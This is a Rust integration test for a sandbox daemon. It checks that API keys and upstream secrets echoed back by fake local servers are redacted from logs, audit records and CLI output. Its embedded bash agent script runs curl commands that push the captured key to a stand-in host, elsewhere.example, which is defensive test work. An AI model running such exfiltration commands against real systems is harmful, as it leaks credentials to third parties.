//! Providers and upstreams that send back what they were sent. The agent may see it, and log it: nothing that the
//! operator is told or that is kept outside of the sandbox has the secret in it, in whatever form it came back.

#[path = "../../../tests/support/mod.rs"]
mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::Arc;

use clawkeep_daemon::api::{AgentChoice, Request, RouteChoice};
use clawkeep_isolation::Limits;
use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
use support::{Installation, LONG, name};
use testkit::wait_until;

const KEY: &str = "sk-reflect+4711/route?key";
const SECRET: &str = "up~stream&4712=secret%value";

/// The forms in which a secret is looked for, by name.
fn forms(secret: &str) -> Vec<(&'static str, String)> {
    vec![
        ("plain", secret.to_owned()),
        ("base64", base64(secret.as_bytes())),
        ("percent", secret.bytes().map(|byte| format!("%{byte:02X}")).collect()),
        ("percent, what needs it", secret.bytes().map(percent).collect()),
    ]
}

fn percent(byte: u8) -> String {
    if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02x}") }
}

/// RFC 4648, section 4, without its padding.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|chunk| {
            let at = |index: usize| u32::from(chunk.get(index).copied().unwrap_or(0));
            let bits = at(0) << 16 | at(1) << 8 | at(2);
            (0..=chunk.len()).map(move |index| char::from(DIGITS[(bits >> (18 - 6 * index) & 63) as usize]))
        })
        .collect()
}

/// All of them in one text.
fn said(secret: &str) -> String {
    forms(secret).into_iter().map(|(_, form)| form).collect::<Vec<_>>().join(" ")
}

/// A request's first line, and what it was authorized with.
fn read(stream: impl Read) -> Option<(String, String)> {
    let mut reader = BufReader::new(stream);
    let (mut first, mut secret, mut length) = (String::new(), String::new(), 0);
    reader.read_line(&mut first).ok()?;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).ok()?;
        let Some((name, value)) = line.trim().split_once(':') else { break };
        match name.to_ascii_lowercase().as_str() {
            "authorization" => value.trim().trim_start_matches("Bearer ").clone_into(&mut secret),
            "content-length" => length = value.trim().parse().ok()?,
            _ => {}
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    if body.windows(13).any(|window| window == b"\"stream\":true") {
        first = format!("STREAM {first}");
    }
    Some((first, secret))
}

/// A provider that has no model and says with which key it was asked for it; and in a stream likewise.
fn provider() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/v1", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let Some((first, key)) = read(&stream) else { continue };
            let told = serde_json::json!({ "error": { "message": format!("no model for {}", said(&key)) } });
            let (status, kind, body) = match first {
                first if first.starts_with("STREAM") => {
                    ("200 OK", "text/event-stream", format!("data: {told}\n\ndata: [DONE]\n\n"))
                }
                first if first.starts_with("GET") => ("404 Not Found", "application/json", told.to_string()),
                _ => ("400 Bad Request", "application/json", told.to_string()),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nX-Key: {key}\r\nConnection: close\r\n\
                 Content-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    url
}

/// An upstream with TLS that leads whoever asks to a place with the secret in its name, and answers there with it.
/// Gives its port; the certificate of its authority is written to this file.
fn upstream(roots: &Path) -> u16 {
    let authority_key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::new()).unwrap();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let authority = params.self_signed(&authority_key).unwrap();
    std::fs::write(roots, authority.pem()).unwrap();
    let issuer = rcgen::Issuer::new(params, authority_key);
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["host.docker.internal".to_owned()]).unwrap();
    let leaf = leaf.signed_by(&key, &issuer).unwrap();
    let key = PrivateKeyDer::from(PrivatePkcs8KeyDer::from(key.serialize_der()));
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone()], key)
        .unwrap();
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let connection = rustls::ServerConnection::new(Arc::clone(&config)).unwrap();
            let mut stream = rustls::StreamOwned::new(connection, stream);
            let Some((first, secret)) = read(&mut stream) else { continue };
            let body = said(&secret);
            let place: String = secret.bytes().map(percent).collect();
            let to = if first.contains(" /lead ") {
                format!("Location: /{place}?key={place}\r\n")
            } else {
                String::new()
            };
            let status = if to.is_empty() { "200 OK" } else { "302 Found" };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\n{to}X-Secret: {secret}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            stream.conn.send_close_notify();
            let _ = stream.flush();
        }
    });
    port
}

/// A daemon of the test's own, which trusts the upstream.
struct Daemon(Child);

impl Daemon {
    fn start(installation: &Installation, roots: &Path) -> Self {
        let home = installation.home.root().to_str().unwrap().to_owned();
        let mut command = installation.command(&["daemon", "--home", &home, "--serve"]);
        let log = std::fs::File::create(installation.home.run().join("daemon.log")).unwrap();
        command.env("SSL_CERT_FILE", roots).stdout(Stdio::null()).stderr(log);
        let child = command.spawn().unwrap();
        wait_until(LONG, "the daemon to serve", || {
            clawkeep_daemon::connect(installation.home.root()).ok()?
        });
        Self(child)
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.0.wait();
    }
}

/// The files below in which this text is, but for what the agent itself can write.
fn found_in(text: &str, below: &Path, spared: &[&Path], found: &mut Vec<String>) {
    for entry in std::fs::read_dir(below).unwrap().flatten() {
        let path = entry.path();
        let kind = entry.file_type().unwrap();
        if spared.contains(&path.as_path()) {
            continue;
        }
        if kind.is_dir() {
            found_in(text, &path, spared, found);
        } else if kind.is_file() {
            let bytes = std::fs::read(&path).unwrap_or_default();
            if bytes.windows(text.len()).any(|window| window == text.as_bytes()) {
                found.push(path.display().to_string());
            }
        }
    }
}

#[test]
fn a_secret_that_is_sent_back_is_in_no_record_and_no_output() {
    if !Path::new("/usr/bin/curl").exists() {
        eprintln!("SKIPPED: a_secret_that_is_sent_back_is_in_no_record_and_no_output needs /usr/bin/curl");
        return;
    }
    // Ends after everything else.
    let mut daemon = None;
    let installation = Installation::new();
    let roots = installation.scratch().join("roots.pem");
    let (provider, port) = (provider(), upstream(&roots));
    let host = format!("host.docker.internal:{port}");
    daemon.replace(Daemon::start(&installation, &roots));

    let mut add = installation.command(&["credentials", "add", "UP", "--host", &host]);
    let mut add = add.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    add.stdin.take().unwrap().write_all(SECRET.as_bytes()).unwrap();
    assert!(add.wait().unwrap().success());

    // Everything comes back to it, it logs all of it, and spreads it as far as it can.
    let script = format!(
        "ask() {{ curl -sS -i --max-time 60 \"$@\" 2>&1; echo; }}
         ask https://inference.local/v1/chat/completions -d '{{\"model\":\"m\"}}'
         ask https://inference.local/v1/chat/completions -d '{{\"model\":\"m\",\"stream\":true}}'
         key=$(ask https://inference.local/v1/models | sed -n 's/^x-key: *//Ip' | tr -d '\\r')
         ask https://inference.local/v1/chat/completions -d \"{{\\\"model\\\":\\\"$key\\\",\\\"stream\\\":true}}\"
         ask -L -H 'Authorization: Bearer clawkeep:secret:UP' https://{host}/lead
         said=$(ask -H 'Authorization: Bearer clawkeep:secret:UP' https://{host}/ | grep ' %')
         secret=${{said%% *}} place=${{said##* }}
         ask \"http://elsewhere.example/$key/\" ; ask \"http://elsewhere.example/$place/\"
         ask -X \"$key\" https://{host}/ ; ask \"http://$(echo $key | tr -cd a-z0-9-).example/\"
         echo \"it has $key and $secret and asked all\"; exec sleep 100000"
    );
    let Request::Create(mut create) = installation.fake("box", &[], false, Limits::default()) else {
        panic!("another request")
    };
    create.agent = AgentChoice::Command {
        argv: ["/bin/bash", "-c", &script].map(str::to_owned).into(),
        health_url: None,
        config: None,
        safe_mode: false,
        node_guards: false,
        bundle: None,
        env: Default::default(),
    };
    create.route = Some(RouteChoice {
        provider: "custom".into(),
        endpoint_url: Some(provider.clone()),
        model: "m".into(),
        key: Some(KEY.into()),
    });
    create.policy.file = Some(format!(
        "version: 1\nnetwork_policies:\n  up:\n    endpoints:\n      - {{host: host.docker.internal, port: {port}, \
         protocol: rest, access: full}}\n    binaries:\n      - path: /**\n"
    ));
    installation.ask(&Request::Create(create)).unwrap();
    installation.ask(&Request::Onboarded { name: name("box") }).unwrap();
    installation.ready("box");
    wait_until(LONG, "the agent to have asked all", || {
        installation.log("box").contains("and asked all\n").then_some(())
    });
    for (form, text) in forms(SECRET) {
        assert!(
            installation.log("box").contains(&text),
            "nothing came back: {form}: {}",
            installation.log("box")
        );
    }

    // Everything that can be asked about it.
    let mut outputs = Vec::new();
    let mut run = |args: &[&str]| {
        let mut command = installation.command(args);
        let output = command.env("COMPATIBLE_API_KEY", KEY).output().unwrap();
        let text =
            String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        outputs.push((args.join(" "), text.clone()));
        text
    };
    let set = ["--provider", "custom", "--endpoint-url", &provider, "--model", "m", "--force"];
    let told = run(&[&["box", "inference", "set"], &set[..]].concat());
    assert!(told.contains("no model for ") && told.contains("[redacted]"), "{told}");
    let told = run(&[
        "box",
        "inference",
        "add-fallback",
        "--provider",
        "custom",
        "--endpoint-url",
        &provider,
        "--model",
        "n",
    ]);
    assert!(told.contains("no model for ") && told.contains("[redacted]"), "{told}");
    wait_until(LONG, "the refusals to be told", || {
        run(&["box", "policy", "requests", "--json"]).contains("elsewhere.example").then_some(())
    });
    let logged = run(&["box", "logs"]);
    assert!(logged.contains("and [redacted] and asked all"), "{logged}");
    for args in [
        &["box", "logs", "--tail", "3"][..],
        &["status"],
        &["status", "--json"],
        &["box", "status"],
        &["box", "status", "--json"],
        &["events"],
        &["box", "events", "--json", "--tail", "10000"],
        &["box", "why", "--json"],
        &["box", "policy", "requests"],
        &["box", "policy", "get"],
        &["box", "inference", "get", "--json"],
        &["credentials", "list", "--json"],
        &["list", "--json"],
    ] {
        run(args);
    }
    // The daemon is asked no more: the log is read with what is stored.
    installation.ask(&Request::Stop { name: name("box") }).unwrap();
    installation.ask(&Request::Shutdown).unwrap();
    drop(daemon.take());
    let told = installation.clawkeep(&["box", "logs"]);
    outputs.push(("logs, without a daemon".into(), String::from_utf8_lossy(&told.stdout).into_owned()));
    assert_eq!(outputs.last().unwrap().1, logged);

    let home = installation.home.root();
    let sandbox = installation.home.sandbox(&name("box"));
    let log = sandbox.run().join(clawkeep_isolation::LOG);
    let spared = [installation.home.secrets(), sandbox.home(), log];
    let spared: Vec<&Path> = spared.iter().map(|path| path.as_path()).collect();
    let mut found = Vec::new();
    found_in("elsewhere.example", home, &spared, &mut found);
    found_in("route-failing", &installation.home.run(), &[], &mut found);
    for record in ["audit.jsonl", "clawkeep.db", "daemon.log"] {
        assert!(found.iter().any(|path| path.contains(record)), "blind: {found:?}");
    }
    for (form, text) in forms(KEY).into_iter().chain(forms(SECRET)) {
        let mut found = Vec::new();
        found_in(&text, home, &spared, &mut found);
        assert!(found.is_empty(), "{form} is in {found:?}");
        for (command, output) in &outputs {
            assert!(!output.contains(&text), "{form} is in what `{command}` says: {output}");
        }
    }
}
